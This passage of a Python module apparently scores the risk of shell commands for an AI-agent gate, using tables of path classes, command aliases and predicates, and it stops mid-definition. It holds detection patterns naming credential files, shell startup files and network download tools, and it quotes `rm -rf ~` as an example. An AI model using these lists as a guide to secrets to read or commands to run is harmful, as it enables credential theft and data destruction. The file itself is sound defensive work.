"""Score how much harm a shell command line could do, 0 (read-only) to 100 (wipes the disk).

Why a score and not a yes/no: the engine has three answers (run, ask a person, refuse) and the
thresholds between them are policy (`verdict_for`, `agenthq.gates.policy`). The score of a line is
the *maximum* over its findings, never a sum: ten harmless commands are still harmless, and one
`rm -rf ~` is enough.

Every finding comes from a table row with a score and a short human reason, so a reviewer can
read the whole policy top to bottom. Rows look at the *parsed* simple commands from
`shell_syntax` (quotes removed, wrappers and inner `bash -c` strings unfolded), never at raw
substrings: `echo "git push --force"` is data, not a push. What the grammar cannot understand is
scored high (≥ 70), never low.

Score bands used by the rows: 0–10 read-only or routine build/test; 15–20 local changes that
version control can undo; 25–45 changes worth a look (writes, deletes inside the workspace,
network, unknown programs); 50–75 reaches outside the workspace or is hard to undo; 80–100
privilege escalation, system damage, data exfiltration, code from the network.
"""

from __future__ import annotations

import os
import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Literal

from agenthq.gates.shell_syntax import SHELLS, ParsedLine, SimpleCommand, command_name, parse

__all__ = ["Finding", "RiskAssessment", "Verdict", "assess", "verdict_for"]

Verdict = Literal["run", "ask", "refuse"]

UNPARSEABLE_SCORE = 75


def _words(text: str) -> tuple[str, ...]:
    """Long lists of names read better as one string than as a column of quoted words."""
    return tuple(text.split())


@dataclass(frozen=True)
class Finding:
    """One reason a command is risky, with the score it deserves on its own."""

    score: int
    reason: str


@dataclass(frozen=True)
class RiskAssessment:
    """The verdict material for one command line: the worst finding wins."""

    score: int
    reasons: tuple[str, ...]
    commands: tuple[SimpleCommand, ...]
    parse_ok: bool


def verdict_for(score: int, *, auto_max: int = 20, refuse_min: int = 80) -> Verdict:
    """Map a score onto the three answers: run ≤ auto_max < ask < refuse_min ≤ refuse."""
    if score >= refuse_min:
        return "refuse"
    if score <= auto_max:
        return "run"
    return "ask"


def assess(
    command: str, *, workspace: Path | None = None, home: Path | None = None
) -> RiskAssessment:
    """Score `command` as it would run with `workspace` as the current directory.

    Without a workspace, relative paths count as inside it and absolute paths as outside.
    """
    parsed = parse(command)
    env = _Env.make(workspace, home, parsed)
    findings = list(_line_findings(command, parsed, env))
    findings.extend(_all_command_findings(parsed, env))
    spaced = _UNUSUAL_SPACE.sub(" ", command)
    if spaced != command:  # judge what the text looks like it does, too
        findings.extend(_reparsed(spaced, env))
    return _summarise(findings, parsed)


def _summarise(findings: list[Finding], parsed: ParsedLine) -> RiskAssessment:
    best: dict[str, int] = {}
    for finding in findings:
        if finding.score > best.get(finding.reason, -1):
            best[finding.reason] = finding.score
    ranked = sorted(best.items(), key=lambda item: -item[1])
    reasons = tuple(reason for reason, score in ranked if score > 0 and reason)
    score = ranked[0][1] if ranked else 0
    return RiskAssessment(
        score=score,
        reasons=reasons or ("only read-only commands",),
        commands=parsed.commands,
        parse_ok=parsed.parse_ok,
    )


def _reparsed(text: str, env: _Env) -> Iterator[Finding]:
    parsed = parse(text)
    env = replace(env, functions=frozenset(f.name for f in parsed.functions))
    yield from _line_findings(text, parsed, env)
    yield from _all_command_findings(parsed, env)


def _all_command_findings(parsed: ParsedLine, env: _Env) -> Iterator[Finding]:
    """Commands in order, each judged from the directory the `cd`s before it left us in."""
    for simple in parsed.commands:
        yield from _command_findings(simple, env)
        env = env.after(simple)


# --- paths ------------------------------------------------------------------------------------

# Path classes, most alarming first. A path gets exactly one.
ROOT = "root"  # / itself, or everything under it
HOME = "home"  # a home directory itself
ANCESTOR = "ancestor"  # a directory that contains the workspace
SYSTEM = "system"  # /etc, /usr, /boot, /var …
DEVICE = "device"  # a disk: /dev/sda, /dev/nvme0n1
CREDENTIAL = "credential"  # keys, tokens, password files
STARTUP = "startup"  # files a shell or login runs: ~/.bashrc, authorized_keys
DOTFILE = "dotfile"  # other configuration under the home directory
OUTSIDE = "outside"  # anywhere else outside the workspace
TEMP = "temp"  # inside /tmp and friends
WORKSPACE_ALL = "workspace-all"  # the workspace itself, or all of it via a glob
GLOB = "glob"  # a glob inside the workspace
WORKSPACE = "workspace"  # a path inside the workspace
DYNAMIC = "dynamic"  # only known at run time ($VAR, $(…))
NULLDEV = "nulldev"  # /dev/null, /dev/stdout …: harmless

_NOT_WORKSPACE = frozenset({ROOT, HOME, ANCESTOR, SYSTEM, DEVICE, STARTUP, DOTFILE, OUTSIDE})
_BROAD = frozenset({ROOT, HOME, ANCESTOR, SYSTEM, WORKSPACE_ALL})

_VIRTUAL_WORKSPACE = "/\0workspace/project"  # no real path contains NUL
_UNKNOWN_DIR = "/\0unknown"  # after `cd "$X"`: relative paths could be anywhere
_SYSTEM_DIRS = _words(
    "/etc /usr /bin /sbin /lib /lib32 /lib64 /libx32 /boot /sys /proc /dev /var /opt /srv /snap "
    "/root /run /mnt /media /nix /System /Library /Applications /private /Volumes /cores"
)
# Only compared with paths, never written to (hence the S108 waiver).
_TEMP_DIRS = _words("/tmp /var/tmp /private/tmp /dev/shm /private/var/folders")  # noqa: S108
_NULL_DEVICES = frozenset(
    _words(
        "/dev/null /dev/stdout /dev/stderr /dev/stdin /dev/tty /dev/zero /dev/random /dev/urandom "
        "/dev/full"
    )
)
_DISK = re.compile(r"^/dev/(sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|mapper/|md|dm-|loop|sr|fd\d)")
_HOME_VAR = re.compile(r"^(\$HOME|\$\{HOME\})(?=/|$)")
_GLOB_CHARS = re.compile(r"[*?\[]")
_HOME_DIR = re.compile(r"/(home|Users)(/[^/]+)?|/root")  # someone's home, or all of them
_CREDENTIAL = re.compile(
    r"(^|/)\.ssh(/(?!.*\.pub$)(?!known_hosts)|$)"
    r"|(^|/)id_(rsa|dsa|ecdsa|ed25519)(?!\.pub)(\b|$)"
    r"|ssh_host_\w+_key$"
    r"|(^|/)\.(aws|azure|gnupg|password-store|docker/config\.json|kube/config)(/|$)"
    r"|(^|/)\.config/(gcloud|gh/hosts\.yml)"
    r"|(^|/)[._]netrc$"
    r"|(^|/)\.(npmrc|pypirc|git-credentials|pgpass|my\.cnf|vault-token|cargo/credentials)"
    r"|(^|/)\.(bash|zsh|sh)_history$"
    r"|(^|/)\.env(\.(?!example|sample|template|dist|defaults?\b)[\w.-]+)?$"
    r"|\.(pem|key|p12|pfx|jks|keystore|ppk|kdbx)$"
    r"|credentials(\.json|\.csv)?$"
    r"|(^|/)secrets?\.(ya?ml|json|toml|env)$"
    r"|\.keychain(-db)?$"
    r"|^/etc/(shadow|gshadow|sudoers|master\.passwd|security/opasswd)",
    re.IGNORECASE,
)
_STARTUP = re.compile(
    r"(^|/)\.(bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zprofile|zshenv|zlogin|"
    r"kshrc|cshrc|tcshrc|inputrc|xinitrc|xprofile|xsession|gitconfig|vimrc|exrc|curlrc|wgetrc)$"
    r"|/\.ssh/(authorized_keys2?|config|rc)$"
    r"|/\.config/(fish/|autostart/|systemd/user/)"
    r"|/Library/Launch(Agents|Daemons)/"
    r"|/\.bashrc\.d/",
)


@dataclass(frozen=True)
class _Env:
    """Where the command runs: absolute, normalised workspace and home directories, and the
    shell functions the line defines (calling one is not running an unknown program)."""

    workspace: str
    home: str
    functions: frozenset[str] = frozenset()
    cwd: str = ""  # where relative paths start: the workspace until a `cd` moves it

    @staticmethod
    def make(workspace: Path | None, home: Path | None, parsed: ParsedLine) -> _Env:
        ws = os.path.normpath(os.path.abspath(workspace)) if workspace else _VIRTUAL_WORKSPACE
        home_dir = os.path.normpath(str(home)) if home else os.path.expanduser("~")
        return _Env(ws, home_dir, frozenset(f.name for f in parsed.functions), ws)

    def after(self, command: SimpleCommand) -> _Env:
        """The environment for the next command: `cd DIR` moves where relative paths start."""
        if command.name not in ("cd", "pushd") or _inside_substitution(command):
            return self
        operands = [w for w in command.words[1:] if not w.startswith("-") or w == "-"]
        if not operands:
            return replace(self, cwd=self.home)
        where = operands[0]
        if where == "-" or (command.dynamic and "$" in _HOME_VAR.sub("~", where)):
            return replace(self, cwd=_UNKNOWN_DIR)
        return replace(self, cwd=self.absolute(where))

    def classify(self, text: str, dynamic: bool = False) -> str:
        """The one class of a path argument (see the constants above)."""
        text = _HOME_VAR.sub("~", text)
        if dynamic and ("$" in text or "`" in text):
            return DYNAMIC
        if text in _NULL_DEVICES or text.startswith("/dev/fd/"):
            return NULLDEV
        if _DISK.match(text):
            return DEVICE
        path = self.absolute(text)
        where = self._by_location(path, bool(_GLOB_CHARS.search(os.path.basename(path))))
        if where in (ROOT, SYSTEM):  # /etc/shadow is a system file first, then a secret
            return where
        if _CREDENTIAL.search(path):
            return CREDENTIAL
        if _STARTUP.search(path):
            return STARTUP
        return where

    def absolute(self, text: str) -> str:
        if text == "~" or text.startswith("~/"):
            text = self.home + text[1:]
        elif text.startswith("~"):
            text = "/home/" + text[1:]
        if text.startswith("file://"):
            text = text[7:]
        return os.path.normpath(os.path.join(self.cwd or self.workspace, text))

    def _by_location(self, path: str, glob: bool) -> str:
        base = os.path.dirname(path) if glob else path
        if base.startswith(_UNKNOWN_DIR):
            return DYNAMIC
        if base == "/":
            return ROOT
        if base == self.home or _HOME_DIR.fullmatch(base):
            return HOME
        if base == self.workspace:
            return WORKSPACE_ALL
        if self.workspace.startswith(base + "/"):
            return ANCESTOR
        if base.startswith(self.workspace + "/"):
            return GLOB if glob else WORKSPACE
        if any(base == t or base.startswith(t + "/") for t in _TEMP_DIRS):
            return SYSTEM if base in _TEMP_DIRS else TEMP
        if base.startswith(self.home + "/"):
            rest = base[len(self.home) + 1 :]
            return DOTFILE if rest.startswith(".") else OUTSIDE
        if any(base == d or base.startswith(d + "/") for d in _SYSTEM_DIRS):
            return SYSTEM
        return OUTSIDE


def _inside_substitution(command: SimpleCommand) -> bool:
    kinds = ("substitution-in:", "process-substitution-in:", "pipeline-after:")
    return any(ctx.startswith(kinds) for ctx in command.context)


# --- a command as the rules see it ------------------------------------------------------------

# Commands whose names differ only by version or vendor share one set of rows.
_ALIAS_GROUPS = {
    "python": "python2 python3 pypy pypy3 py",
    "pip": "pip3 pip2 pipx conda mamba poetry pdm",
    "node": "nodejs",
    "tar": "gtar bsdtar",
    "sed": "gsed",
    "awk": "gawk mawk nawk",
    "grep": "egrep fgrep zgrep",
    "docker": "podman nerdctl",
    "terraform": "tofu pulumi",
    "gradle": "gradlew",
    "mvn": "mvnw",
    "7z": "7za 7zr",
    "nc": "ncat netcat",
    "apt-get": "apt aptitude",
    "dnf": "yum microdnf zypper",
    "mkfs": "mke2fs mkswap",
    "npm": "pnpm yarn bun",
    "iptables": "ip6tables nft ufw firewall-cmd pfctl",
    "gzip": "gunzip bzip2 xz zstd unxz bunzip2",
    "sudo": "pkexec doas runuser",
    "shutdown": "poweroff reboot halt",
    "killall": "killall5",
    "cd": "pushd",
    "shred": "wipe srm",
    "rm": "unlink",
    "fdisk": "sfdisk gdisk cfdisk sgdisk parted wipefs blkdiscard",
    "useradd": "userdel usermod groupadd groupdel adduser deluser passwd chpasswd chsh visudo",
    "modprobe": "insmod rmmod kextload kmutil",
    "chown": "chgrp",
    "source": ".",
    "at": "batch atrm",
    "compose": "docker-compose",
    "scp": "sftp",
    "ftp": "tftp lftp",
    "mail": "sendmail mutt mailx",
    "curl": "http https xh",
    "wget": "fetch aria2c",
    "cloud": "gcloud az doctl heroku flyctl vercel netlify firebase",
    "npx": "pnpx bunx uvx",
}
_ALIASES = {alias: name for name, aliases in _ALIAS_GROUPS.items() for alias in aliases.split()}
_VERSIONED = re.compile(r"^(python|pip|ruby|perl|php|node|lua)[0-9.]*$")

# Options that take the next word as their value, so it is not mistaken for a path or subcommand.
_VALUED: dict[str, frozenset[str]] = {
    name: frozenset(opts.split())
    for name, opts in {
        "git": "-C -c --git-dir --work-tree --namespace --exec-path --config-env",
        "docker": "-H --host --context -c --config -l --log-level -e --env -v --volume -p "
        "--publish --name -w --workdir -u --user --network --entrypoint --mount -f --file",
        "kubectl": "-n --namespace --context --kubeconfig -s --server --cluster --user -f -o -l",
        "helm": "-n --namespace --kube-context -f --values --set",
        "npm": "--prefix -w --workspace -C --cwd",
        "make": "-C -f --file --directory -j -l -o -W",
        "cargo": "--manifest-path -p --package -j --target --features",
        "go": "-C -o -run -tags -p",
        "cp": "-t --target-directory -S --suffix",
        "mv": "-t --target-directory -S --suffix",
        "tar": "-f --file -C --directory -T --files-from -X --exclude-from",
        "python": "-W -X",
        "aws": "--profile --region --output --endpoint-url --query",
        "cloud": "--project --format --resource-group -g --subscription",
        "curl": "-o --output -X --request -H --header -d --data -F --form -u --user -A -e -T "
        "--upload-file --data-binary --data-raw --data-urlencode --json -x --proxy -b -c -K",
        "wget": "-O --output-document -P --directory-prefix -o -a -U --header",
        "ssh": "-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w -B",
        "scp": "-c -F -i -J -l -o -P -S",
        "find": "",
        "sed": "-e --expression -f --file",
        "grep": "-e --regexp -f --file -m -A -B -C",
        "rg": "-e --regexp -f -g --glob -t -T --type -m -A -B -C --pre --pre-glob",
        "kill": "-s -n",
        "unzip": "-d -x",
        "chown": "--reference",
        "chmod": "--reference",
        "rm": "",
        "xargs": "-I -L -n -P -s -d -E -a",
    }.items()
}


class _Cmd:
    """A simple command pre-digested for the rows: name, options, operands, path classes."""

    __slots__ = (
        "_classes",
        "args",
        "dynamic_args",
        "env",
        "longs",
        "name",
        "operands",
        "raw_name",
        "sc",
        "shorts",
        "words",
    )

    def __init__(self, sc: SimpleCommand, env: _Env, start: int = 0) -> None:
        self.sc = sc
        self.env = env
        self.words = sc.words[start:]
        self.raw_name = command_name(self.words[0]) if self.words else ""
        self.name = _canonical(self.raw_name)
        self.args = self.words[1:]
        if self.name == "docker" and self.args[:1] == ("compose",):  # docker compose = compose
            self.name, self.args, start = "compose", self.args[1:], start + 1
        self.dynamic_args = frozenset(i - start - 1 for i in sc.dynamic if i > start)
        self.shorts, self.longs, self.operands = _split_options(self.name, self.args)
        self._classes: tuple[str, ...] | None = None

    def has(self, *options: str) -> bool:
        """True if any option is present: `-r` matches `-rf`; `--force` matches `--force=x`."""
        for option in options:
            if option.startswith("--"):
                if option in self.longs:
                    return True
            elif len(option) == 2 and option[1] in self.shorts:
                return True
        return False

    def arg(self, *values: str) -> bool:
        return any(a in values for a in self.args)

    def arg_matching(self, pattern: re.Pattern[str]) -> bool:
        return any(pattern.search(a) for a in self.args)

    @property
    def sub(self) -> str:
        return self.operands[0] if self.operands else ""

    @property
    def sub2(self) -> str:
        return self.operands[1] if len(self.operands) > 1 else ""

    def classes(self) -> tuple[str, ...]:
        """Path classes of the operands that name files (skipping a leading mode or owner)."""
        if self._classes is None:
            skip = 1 if self.name in ("chmod", "chown") else 0
            dynamic = {self.args[i] for i in self.dynamic_args if i < len(self.args)}
            self._classes = tuple(
                self.env.classify(op, op in dynamic) for op in self.operands[skip:] if op
            )
        return self._classes

    def dynamic_arg_texts(self) -> Iterator[str]:
        return (self.args[i] for i in sorted(self.dynamic_args) if i < len(self.args))

    def classify(self, text: str) -> str:
        return self.env.classify(text, "$" in text or "`" in text)


def _canonical(name: str) -> str:
    if name.startswith("mkfs"):
        return "mkfs"
    versioned = _VERSIONED.match(name)
    if versioned:
        name = versioned.group(1)
    return _ALIASES.get(name, name)


def _split_options(
    name: str, args: tuple[str, ...]
) -> tuple[frozenset[str], frozenset[str], tuple[str, ...]]:
    """Short option letters, long option names and operands (values of known options skipped)."""
    valued = _VALUED.get(name, frozenset())
    shorts: set[str] = set()
    longs: set[str] = set()
    operands: list[str] = []
    index = 0
    while index < len(args):
        arg = args[index]
        index += 1
        if arg == "--":
            operands.extend(args[index:])
            break
        if arg.startswith("--"):
            longs.add(arg.split("=", 1)[0])
            index += 1 if arg in valued else 0
        elif arg.startswith("-") and len(arg) > 1 and not (name == "find" and operands):
            shorts.update(arg[1:] if arg[1:].isalnum() else "")
            index += 1 if arg in valued else 0
        else:
            operands.append(arg)
    return frozenset(shorts), frozenset(longs), tuple(operands)


# --- predicates the rows are built from ---------------------------------------------------------

Pred = Callable[[_Cmd], bool]


# The predicate builders take words as separate strings or space-separated in one string, so
# long lists of subcommands stay on one line of the table: sub("list show info").


def _split(words: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(w for text in words for w in text.split())


def opt(*options: str) -> Pred:
    """Any of the options is present (`-r` also inside `-rf`)."""
    wanted = _split(options)
    return lambda c: c.has(*wanted)


def arg(*values: str) -> Pred:
    """Any argument is exactly one of `values` (single-dash long options like find's -delete)."""
    wanted = frozenset(_split(values))
    return lambda c: c.arg(*wanted)


def matches(pattern: str, flags: int = 0) -> Pred:
    compiled = re.compile(pattern, flags)
    return lambda c: c.arg_matching(compiled)


def sub(*names: str) -> Pred:
    """The first operand (the subcommand: `git push`, `npm install`) is one of `names`."""
    wanted = frozenset(_split(names))
    return lambda c: c.sub in wanted


def sub2(*names: str) -> Pred:
    """The second operand (`git stash drop`, `aws s3 rm`) is one of `names`."""
    wanted = frozenset(_split(names))
    return lambda c: c.sub2 in wanted


def target(*classes: str) -> Pred:
    wanted = frozenset(classes)
    return lambda c: any(k in wanted for k in c.classes())


def dest(*classes: str) -> Pred:
    """The destination of cp/mv/ln/install (`-t DIR` or the last operand) is in `classes`."""
    wanted = frozenset(classes)

    def check(c: _Cmd) -> bool:
        where = _option_value(c.args, ("-t", "--target-directory"))
        if where is None and len(c.operands) >= 2:
            where = c.operands[-1]
        return where is not None and c.classify(where) in wanted

    return check


def value_of(options: tuple[str, ...], *classes: str) -> Pred:
    """An option's value (`-C DIR`, `--directory=DIR`, `-dDIR`, `of=X`) is a path in `classes`."""
    wanted = frozenset(classes)
    return lambda c: any(c.classify(v) in wanted for v in _option_values(c.args, options))


def all_of(*preds: Pred) -> Pred:
    return lambda c: all(p(c) for p in preds)


def any_of(*preds: Pred) -> Pred:
    return lambda c: any(p(c) for p in preds)


def no(pred: Pred) -> Pred:
    return lambda c: not pred(c)


def flagged(flag: str) -> Pred:
    return lambda c: flag in c.sc.flags


def _option_value(args: tuple[str, ...], options: tuple[str, ...]) -> str | None:
    values = _option_values(args, options)
    return values[0] if values else None


def _option_values(args: tuple[str, ...], options: tuple[str, ...]) -> list[str]:
    found: list[str] = []
    for index, word in enumerate(args):
        for option in options:
            if word == option and index + 1 < len(args):
                found.append(args[index + 1])
            elif option.endswith("=") and word.startswith(option):
                found.append(word[len(option) :])
            elif word.startswith(option + "="):
                found.append(word[len(option) + 1 :])
            elif len(option) == 2 and word.startswith(option) and len(word) > 2:
                found.append(word[2:])
    return found


RECURSIVE = opt("-r", "-R", "--recursive")
GENERATED = flagged("generated-args")
NON_WORKSPACE_WRITE = (ROOT, HOME, ANCESTOR, OUTSIDE, DOTFILE)


@dataclass(frozen=True)
class Row:
    """One line of the risk table: if `when` holds for a command, it scores `score`.

    A row without `when` is the command's default: it counts only when no other row of the
    same command matched (so `docker ps` can be 5 while an unlisted docker subcommand is 25).
    """

    score: int
    reason: str
    when: Pred | None = None


def _uploads(c: _Cmd) -> bool:
    """curl/wget options that send a body or a file, or a method other than GET/HEAD."""
    body = ("-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--json", "-F")
    more = ("--form", "--form-string", "-T", "--upload-file", "--post-data", "--post-file")
    if any(a in body + more or a.startswith(tuple(o + "=" for o in body + more)) for a in c.args):
        return True
    if any(a.startswith(("-d", "-F", "-T")) and len(a) > 2 for a in c.args):
        return True
    methods = _option_values(c.args, ("-X", "--request", "--method"))
    return any(m.upper() not in ("GET", "HEAD", "OPTIONS") for m in methods)


_REMOTE_PATH = re.compile(r"^[^/]*(:|::)|^rsync://")  # host:path, host::module
_LOCAL_URL = re.compile(r"^(https?://)?(localhost|127\.0\.0\.1|\[::1\]|0\.0\.0\.0)([:/]|$)")


def _local_only(c: _Cmd) -> bool:
    urls = [op for op in c.operands if "." in op or "/" in op or op.startswith("localhost")]
    return bool(urls) and all(_LOCAL_URL.match(u) for u in urls)


def _docker_mount_classes(c: _Cmd) -> Iterator[str]:
    for value in _option_values(c.args, ("-v", "--volume", "--mount")):
        source = value.split(",source=")[-1].split(",src=")[-1] if "=" in value else value
        host = source.split(":", 1)[0].split(",", 1)[0]
        if host.endswith("docker.sock"):
            yield SYSTEM
        elif host.startswith(("/", "~", "$HOME", ".")):
            yield c.classify(host)


def _docker_mounts(*classes: str) -> Pred:
    wanted = frozenset(classes)
    return lambda c: any(k in wanted for k in _docker_mount_classes(c))


_OCTAL_MODE = re.compile(r"0?[0-7]{3,4}")
_MODE_CLAUSE = re.compile(r"([ugoa]*)([-+=])([rwxXst]*)")


def _mode_grants(mode: str, who: str, perms: str) -> bool:
    """Does a symbolic chmod mode (`a+w`, `go=rx,u+s`) grant any of `perms` to `who`?"""
    for clause in mode.split(","):
        found = _MODE_CLAUSE.fullmatch(clause)
        if found is None or found.group(2) == "-":
            continue
        targets = found.group(1) or "a"
        if (set(targets) & set(who + "a")) and set(found.group(3)) & set(perms):
            return True
    return False


def _world_writable(c: _Cmd) -> bool:
    """777, 666, o+w, a+rwx: anyone may change the files."""
    mode = c.sub
    if _OCTAL_MODE.fullmatch(mode):
        return int(mode[-1]) & 2 != 0
    return _mode_grants(mode, "o", "w")


def _loosens(c: _Cmd) -> bool:
    """644, go+r, +r: the group or others get some access."""
    mode = c.sub
    if _OCTAL_MODE.fullmatch(mode):
        return int(mode[-2:]) != 0
    return _mode_grants(mode, "go", "rwx")


def _setuid(c: _Cmd) -> bool:
    """4755, u+s, g+s: the program runs as its owner (often root)."""
    mode = c.sub
    if _OCTAL_MODE.fullmatch(mode) and len(mode.lstrip("0")) == 4:
        return int(mode.lstrip("0")[0]) & 6 != 0
    return _mode_grants(mode, "ug", "s")


def _rg_runs_programs(c: _Cmd) -> bool:
    """ripgrep's --pre runs a program per file and -z/--search-zip runs decompressors."""
    return c.has("-z", "--search-zip", "--pre") or any(a.startswith("--pre=") for a in c.args)


_AWK_RUNS = re.compile(r"system\s*\(|\|\s*getline|\bprint[f]?\b[^;}]*[|>]\s*\"")


def _awk_program_runs(c: _Cmd) -> bool:
    """system(), `cmd | getline`, print > "file": awk can run and write, not only print."""
    program = next((a for a in c.args if not a.startswith("-")), "")
    return bool(_AWK_RUNS.search(program))


_SED_EXEC = re.compile(r"(^|[;\n}])\s*[0-9,$/]*\s*e(\s|$)|s(.).*\3.*\3[gIip0-9]*e")


def _tar_mode(c: _Cmd) -> str:
    """`tar -xzf a.tgz`, `tar xzf a.tgz`, `tar --extract …`: c(reate), x(tract), t(list)."""
    letters = set(c.shorts)
    if c.args and not c.args[0].startswith("-"):
        letters.update(c.args[0])
    if "x" in letters or "--extract" in c.longs or "--get" in c.longs:
        return "x"
    if "t" in letters or "--list" in c.longs:
        return "t"
    return "c"


def _kill_targets_all(c: _Cmd) -> bool:
    return "-1" in c.args[1:] or (c.args[-1:] == ("-1",) and len(c.args) > 1) or "1" in c.operands


def _git_runs_program(c: _Cmd) -> bool:
    """`git -c core.sshCommand=…`, `-c alias.x=!…`: configuration that names a program."""
    for value in _option_values(c.args, ("-c",)):
        key = value.split("=", 1)[0].lower()
        if _GIT_EXEC_KEY.fullmatch(key) or "=!" in value:
            return True
    return False


_GIT_EXEC_KEY = re.compile(
    r"core\.(sshcommand|pager|editor|fsmonitor|hookspath|askpass|gitproxy)|alias\..*|"
    r".*\.(command|helper|program|cmd|textconv|clean|smudge|process)|protocol\..*\.allow"
)
_GIT_READ = frozenset(
    _words(
        "status diff log show blame rev-parse ls-files ls-tree ls-remote describe shortlog grep "
        "cat-file show-ref merge-base name-rev whatchanged version help for-each-ref count-objects "
        "rev-list check-ignore check-attr var cherry range-diff diff-tree diff-files diff-index "
        "verify-commit verify-tag annotate reflog fsck"
    )
)


def _git_lists(c: _Cmd) -> bool:
    """`git branch`, `git tag`, `git stash list`, `git remote -v`, `git config --get`: listing."""
    if c.sub == "branch":
        listing = c.has("-l", "--list", "-a", "--all", "-r", "--remotes", "-v", "--show-current")
        creating = len(c.operands) > 1 or c.has("-d", "-D", "-m", "-M", "-c", "-C", "--delete")
        return listing or not creating
    if c.sub == "tag":
        return c.has("-l", "--list") or (len(c.operands) == 1 and not c.has("-a", "-s", "-d"))
    if c.sub == "stash":
        return c.sub2 in ("list", "show")
    if c.sub == "remote":
        return c.sub2 in ("", "show", "get-url") or c.sub2.startswith("-")
    if c.sub == "config":
        getting = c.has("--get", "--get-all", "--list", "-l", "--get-regexp", "--show-origin")
        return getting or len(c.operands) == 2
    if c.sub == "worktree":
        return c.sub2 == "list"
    return c.sub in _GIT_READ and c.sub2 not in ("expire", "delete")


def _git_discards(c: _Cmd) -> bool:
    """checkout/restore of paths overwrites uncommitted edits with no way back."""
    if c.sub == "restore":
        return not c.has("-S", "--staged") or c.has("-W", "--worktree")
    if c.sub == "checkout":
        return "--" in c.args or "." in c.operands[1:] or c.has("-f", "--force")
    return False


def _git_discards_all(c: _Cmd) -> bool:
    return _git_discards(c) and any(op in (".", "*", ":/") for op in c.operands[1:])


_SHELL_C = re.compile(r"-[a-zA-Z]*c[a-zA-Z]*")  # bash -c, -lc, -ec


def _script_operand(c: _Cmd) -> str | None:
    """The script an interpreter runs, or None when the program comes from -c/-e/-m or stdin."""
    inline = {"-c", "-e", "-E", "-m", "-r", "-p", "--eval", "--print", "--command"}
    if any(a in inline or (a[:2] in ("-c", "-m") and len(a) > 2) for a in c.args):
        return None
    if c.name in SHELLS and any(_SHELL_C.fullmatch(a) for a in c.args):
        return None
    for op in c.operands:
        return None if op in ("-", "/dev/stdin") else op
    return None


def _reads_program_from_stdin(c: _Cmd) -> bool:
    inline = {"-c", "-e", "-E", "-m", "-r", "--eval", "--print", "--command", "--version", "-V"}
    if any(a in inline or (a.startswith(("-c", "-m")) and len(a) > 2) for a in c.args):
        return False
    if c.name in SHELLS and any(_SHELL_C.fullmatch(a) for a in c.args):
        return False
    if c.name in SHELLS and "s" in c.shorts:  # bash -s -- args: the program is stdin
        return True
    return not c.operands or c.operands[0] in ("-", "/dev/stdin")


def _script_outside(c: _Cmd) -> bool:
    script = _script_operand(c)
    return script is not None and c.classify(script) in (_NOT_WORKSPACE | {TEMP})


def _py_module(c: _Cmd) -> str:
    for index, word in enumerate(c.args):
        if word == "-m" and index + 1 < len(c.args):
            return c.args[index + 1]
        if word.startswith("-m") and len(word) > 2:
            return word[2:]
    return ""


def _py_module_in(*modules: str) -> Pred:
    return lambda c: _py_module(c).split(".")[0] in modules


def _npm_script(c: _Cmd) -> str:
    """The package.json script `npm run X` / `yarn X` / `npm test` would run ('' if none)."""
    if c.sub in ("run", "run-script", "rum", "urn"):
        return c.sub2
    if c.sub in ("test", "t", "tst", "start", "stop", "restart"):
        return "test" if c.sub in ("t", "tst") else c.sub
    if c.raw_name in ("yarn", "pnpm", "bun") and c.sub and c.sub not in _NPM_BUILTIN:
        return c.sub
    return ""


_CHECK_SCRIPT = re.compile(
    r"^(test|tests|t|tst|lint|build|check|typecheck|type-check|types|tsc|format:check|fmt:check|"
    r"verify|ci|coverage|compile|docs)([:-].*)?$"
)
_LIFECYCLE = frozenset(
    _words(
        "preinstall install postinstall prepare prepublish prepublishOnly prepack postpack "
        "preuninstall uninstall postuninstall"
    )
)
_NPM_INSTALL = frozenset(_words("install i isntall add ci update upgrade up dlx"))
_NPM_READ = frozenset(
    _words(
        "ls list ll outdated view info show audit whoami config help version --version -v why "
        "explain search pack doctor root bin prefix fund licenses"
    )
)


_NPM_OWN_COMMANDS = _words(
    "run run-script exec x dlx create publish unpublish init cache version link pkg set config "
    "uninstall remove rm un unlink prune deprecate dist-tag owner token adduser login "
    "logout rebuild dedupe shrinkwrap import workspace workspaces patch global"
)
_NPM_BUILTIN = _NPM_INSTALL | _NPM_READ | frozenset(_NPM_OWN_COMMANDS)


def _npm_runs_other_script(c: _Cmd) -> bool:
    script = _npm_script(c)
    return bool(script) and not _CHECK_SCRIPT.match(script) and script not in _LIFECYCLE


def _is_routine_tool(package: str) -> bool:
    """`npx prettier`, `pnpm exec tsc`: a known checker or formatter, not a stranger's package."""
    name = package.split("@", 1)[0] if not package.startswith("@") else package
    name = _canonical(command_name(name))
    return name in READ_ONLY or (name in ROUTINE and ROUTINE[name][0] <= 10) or name == "ruff"


def _makes_checks(c: _Cmd) -> bool:
    targets = [op for op in c.operands if "=" not in op]
    return all(_CHECK_SCRIPT.match(t) or t in ("all", "default") for t in targets)


_CLOUD_DELETE = re.compile(r"^(delete|destroy|remove|rm|rb|terminate|purge|drop|deregister)\b")
_CLOUD_READ = re.compile(r"^(describe|list|get|show|ls|whoami|version|help|info|status)\b")


def _cloud_verbs(c: _Cmd) -> Iterator[str]:
    """`terminate-instances` → `terminate`, `instances`: verbs hide inside API names."""
    for op in c.operands:
        yield from op.split("-")


def _cloud_deletes(c: _Cmd) -> bool:
    return any(_CLOUD_DELETE.match(v) for v in _cloud_verbs(c))


def _cloud_reads_only(c: _Cmd) -> bool:
    return any(_CLOUD_READ.match(v) for v in c.operands) and not _cloud_deletes(c)


# --- what commands have in common -------------------------------------------------------------

# Programs that run code they are given: piping text into them runs that text.
INTERPRETERS = SHELLS | frozenset(
    _words(
        "python node ruby perl php lua deno rscript julia tclsh pwsh powershell osascript "
        "source eval"
    )
)
# Programs that fetch from the network (a download piped into an interpreter is remote code).
DOWNLOADERS = frozenset({"curl", "wget", "nc", "socat", "ftp", "scp", "ssh"})
# Programs that send data to other hosts.
NETWORK = DOWNLOADERS | frozenset(
    _words("telnet rsync mail dig nslookup host ping traceroute whois gh aws cloud")
)
# git subcommands that talk to a remote.
_GIT_NETWORK = frozenset(_words("push fetch pull clone ls-remote submodule send-email"))
# Variable names that usually hold secrets.
_SECRET_VAR = re.compile(
